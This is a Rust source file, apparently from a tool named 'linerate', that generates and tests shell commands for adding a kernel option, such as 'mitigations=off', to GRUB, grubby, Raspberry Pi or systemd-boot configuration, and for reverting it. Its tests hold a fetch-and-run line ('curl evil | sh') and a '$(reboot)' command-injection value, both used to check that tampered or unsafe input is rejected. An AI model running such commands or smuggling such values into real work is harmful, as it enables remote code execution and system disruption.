//! What starts the kernel of this machine, and the commands that have it do so with an option.

use model::reboot::BootChange;

use crate::tree::Tree;

/// Ends the line that we would have a person add, so that it is found again.
const MARK: &str = "# linerate";
/// How the menu of GRUB is made from its settings: by what, and with which command.
const GRUB_UPDATES: [(&str, &str); 3] = [
    ("usr/sbin/update-grub", "update-grub"),
    (
        "usr/sbin/grub2-mkconfig",
        "grub2-mkconfig -o /boot/grub2/grub.cfg",
    ),
    (
        "usr/sbin/grub-mkconfig",
        "grub-mkconfig -o /boot/grub/grub.cfg",
    ),
];
/// The settings of GRUB, and the folder of files that are read after them and so overrule them.
const GRUB_SETTINGS: &str = "etc/default/grub";
const GRUB_FOLDER: &str = "etc/default/grub.d";
/// Read after all others there.
const OURS: &str = "zz-linerate.cfg";
/// Where the firmware of a Raspberry Pi finds the command line.
const PI_FILES: [&str; 2] = ["boot/firmware/cmdline.txt", "boot/cmdline.txt"];
/// What systemd-boot has where it is installed.
const SYSTEMD_BOOT: [&str; 3] = [
    "boot/loader/loader.conf",
    "boot/efi/loader/loader.conf",
    "efi/loader/loader.conf",
];

/// How this machine is started with an option, in whose place another one stands now, if any does;
/// its warning is left empty.
pub(super) fn change(tree: &Tree, option: &str, stands: Option<&str>) -> BootChange {
    let has = |file: &&str| tree.path(file).exists();
    let grub = GRUB_UPDATES.iter().find(|(program, _)| has(program));
    let pi_file = PI_FILES.into_iter().find(has);
    if !is_plain(option) {
        unknown(option)
    } else if has(&"usr/sbin/grubby") {
        grubby(option, stands.filter(|stands| is_plain(stands)))
    } else if let (true, Some((_, update))) = (has(&GRUB_FOLDER), grub) {
        from_folder(option, update)
    } else if let (true, Some((_, update))) = (has(&GRUB_SETTINGS), grub) {
        from_settings(option, update)
    } else if let Some(file) = pi_file {
        in_one_line(option, file)
    } else if SYSTEMD_BOOT.iter().any(has) {
        in_an_entry(option)
    } else {
        unknown(option)
    }
}

/// Every way to start a machine with an option that is known here.
pub(super) fn all(option: &str, stands: Option<&str>) -> Vec<BootChange> {
    let mut all = vec![unknown(option)];
    if is_plain(option) {
        all.push(grubby(option, None));
        all.extend(
            stands
                .filter(|stands| is_plain(stands))
                .map(|it| grubby(option, Some(it))),
        );
        all.push(in_an_entry(option));
        all.extend(PI_FILES.map(|file| in_one_line(option, file)));
        for (_, update) in GRUB_UPDATES {
            all.extend([from_folder(option, update), from_settings(option, update)]);
        }
    }
    all
}

/// Whether a shell and sed take it as it is.
fn is_plain(option: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"=,:_-".contains(&byte);
    option.bytes().all(plain)
}

/// Of Fedora and those like it, whose menu has a file for each kernel. An argument takes the place of
/// one of the same name.
fn grubby(option: &str, stands: Option<&str>) -> BootChange {
    let back = match stands {
        Some(stands) => format!("--args={stands}"),
        None => format!("--remove-args={option}"),
    };
    told(
        "GRUB, whose entries grubby changes",
        &[format!("grubby --update-kernel=ALL --args={option}")],
        &[format!("grubby --update-kernel=ALL {back}")],
    )
}

/// A file of our own, after all others.
fn from_folder(option: &str, update: &str) -> BootChange {
    let file = format!("/{GRUB_FOLDER}/{OURS}");
    told(
        &format!("GRUB, as the files of /{GRUB_FOLDER} say"),
        &[
            format!("echo '{}' > {file}", addition(option)),
            update.to_owned(),
        ],
        &[format!("rm {file}"), update.to_owned()],
    )
}

/// The settings are lines of a shell, so one at the end adds to whatever stands before it.
fn addition(option: &str) -> String {
    format!("GRUB_CMDLINE_LINUX=\"$GRUB_CMDLINE_LINUX {option}\"")
}

fn from_settings(option: &str, update: &str) -> BootChange {
    let (file, line) = (format!("/{GRUB_SETTINGS}"), addition(option));
    told(
        &format!("GRUB, as {file} says"),
        &[format!("echo '{line} {MARK}' >> {file}"), update.to_owned()],
        &[format!("sed -i '/{MARK}$/d' {file}"), update.to_owned()],
    )
}

fn in_one_line(option: &str, file: &str) -> BootChange {
    told(
        &format!("firmware that reads /{file}"),
        &[format!("sed -i '1s/$/ {option}/' /{file}")],
        &[format!("sed -i '1s/ {option}$//' /{file}")],
    )
}

fn in_an_entry(option: &str) -> BootChange {
    told(
        "systemd-boot",
        &[format!(
            "add {option} to the `options` line of the entry that is started (bootctl list names \
             its file)"
        )],
        &["take it out of that line again".to_owned()],
    )
}

fn unknown(option: &str) -> BootChange {
    told(
        "a boot loader that is not known here",
        &[format!(
            "add {option} to the kernel command line, where the boot loader or the hypervisor has \
             it"
        )],
        &[format!("take {option} out of the kernel command line")],
    )
}

fn told(loader: &str, make: &[String], undo: &[String]) -> BootChange {
    BootChange {
        loader: loader.to_owned(),
        make: make.to_vec(),
        undo: undo.to_vec(),
        warning: String::new(),
    }
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;
    use crate::tree::planted::Planted;

    fn on(test: &str, files: &[&str]) -> BootChange {
        let files: Vec<(&str, &str)> = files.iter().map(|file| (*file, "")).collect();
        let machine = Planted::new(&format!("loader-{test}"), &files);
        change(&machine.tree, "mitigations=off", None)
    }

    #[test]
    fn each_boot_loader_is_known_by_its_files_and_has_its_own_commands() {
        let option = "mitigations=off";
        let is_known = |change: &BootChange| all(option, None).contains(change);
        let debian = ["etc/default/grub", "usr/sbin/update-grub"];
        let by_files = ["etc/default/grub.d", "usr/sbin/grub2-mkconfig"];
        assert!(is_known(&on("known", &debian)) && is_known(&on("by-files", &by_files)));
        let mut strange = on("strange", &debian);
        strange.make[0] += "; curl evil | sh";
        assert!(!is_known(&strange));
        assert_eq!(on("debian", &debian).make[1], "update-grub");
        let fedora = ["etc/default/grub", "usr/sbin/grubby"];
        let arguments = "--args=mitigations=off";
        assert!(on("fedora", &fedora).make[0].ends_with(arguments));
        let pi = on("pi", &["boot/firmware/cmdline.txt"]);
        assert!(pi.make[0].ends_with("/boot/firmware/cmdline.txt"));
        let entries = on("entries", &["efi/loader/loader.conf"]);
        assert_eq!(entries.loader, "systemd-boot");
        for none in [on("none", &[]), on("no-menu", &["etc/default/grub"])] {
            assert!(none.loader.contains("not known"), "{none:?}");
            assert!(none.make[0].contains("add mitigations=off to the kernel command line"));
        }
    }

    /// Runs the commands that change a file on a file of the test's own.
    fn run(commands: &[String], theirs: &str, ours: &std::path::Path) {
        let command = commands[0].replace(theirs, &ours.display().to_string());
        let status = Command::new("sh").args(["-c", &command]).status();
        assert!(status.unwrap().success(), "{command}");
    }

    #[test]
    fn what_the_commands_change_they_change_back() {
        for (test, files, file, before, option_in) in [
            (
                "grub-file",
                &["etc/default/grub", "usr/sbin/update-grub"][..],
                "/etc/default/grub",
                "GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX='quiet'\n",
                ". FILE; echo $GRUB_CMDLINE_LINUX",
            ),
            (
                "pi-file",
                &["boot/cmdline.txt"][..],
                "/boot/cmdline.txt",
                "root=/dev/sda quiet\n",
                "cat FILE",
            ),
        ] {
            let machine = Planted::new(&format!("changed-{test}"), &[("file", before)]);
            let (path, change) = (machine.tree.path("file"), on(test, files));
            run(&change.make, file, &path);
            let look = option_in.replace("FILE", &path.display().to_string());
            let told = Command::new("sh").args(["-c", &look]).output().unwrap();
            let told = String::from_utf8(told.stdout).unwrap();
            assert!(told.ends_with("quiet mitigations=off\n"), "{told}");
            run(&change.undo, file, &path);
            assert_eq!(std::fs::read_to_string(&path).unwrap(), before);
        }
    }

    #[test]
    fn what_a_shell_would_take_apart_is_in_no_command() {
        let debian = Planted::new(
            "loader-quoted",
            &[("etc/default/grub", ""), ("usr/sbin/update-grub", "")],
        );
        let change = change(&debian.tree, "mitigations='$(reboot)'", None);
        assert!(change.loader.contains("not known"), "{change:?}");
    }

    #[test]
    fn the_way_back_has_the_option_that_stood_where_it_was_taken_out() {
        let fedora = Planted::new("loader-stood", &[("usr/sbin/grubby", "")]);
        let back = |stands| change(&fedora.tree, "mitigations=off", stands).undo;
        let grubby = "grubby --update-kernel=ALL";
        assert_eq!(
            back(None),
            [format!("{grubby} --remove-args=mitigations=off")]
        );
        let stood = Some("mitigations=auto,nosmt");
        assert_eq!(
            back(stood),
            [format!("{grubby} --args=mitigations=auto,nosmt")]
        );
    }

    #[test]
    fn files_that_overrule_the_settings_of_grub_do_not_overrule_ours() {
        let cloud = [
            ("etc/default/grub", "GRUB_CMDLINE_LINUX=''\n"),
            (
                "etc/default/grub.d/50-cloud.cfg",
                "GRUB_CMDLINE_LINUX='quiet'\n",
            ),
            ("usr/sbin/update-grub", ""),
        ];
        let machine = Planted::new("loader-folder", &cloud);
        let change = change(&machine.tree, "mitigations=off", None);
        let (theirs, ours) = ("/etc/default/grub.d", machine.tree.path(GRUB_FOLDER));
        // As grub-mkconfig(8) reads them.
        let look = "for file in */etc/default/grub */etc/default/grub.d/*.cfg; do . ./$file; done; \
                    echo $GRUB_CMDLINE_LINUX";
        let told = || {
            let mut shell = Command::new("sh");
            shell
                .args(["-c", &look.replace("*/etc", "etc")])
                .current_dir(machine.tree.path(""));
            String::from_utf8(shell.output().unwrap().stdout).unwrap()
        };
        run(&change.make, theirs, &ours);
        assert_eq!(told(), "quiet mitigations=off\n");
        run(&change.undo, theirs, &ours);
        assert_eq!(told(), "quiet\n");
        assert_eq!(std::fs::read_dir(&ours).unwrap().count(), 1);
    }
}
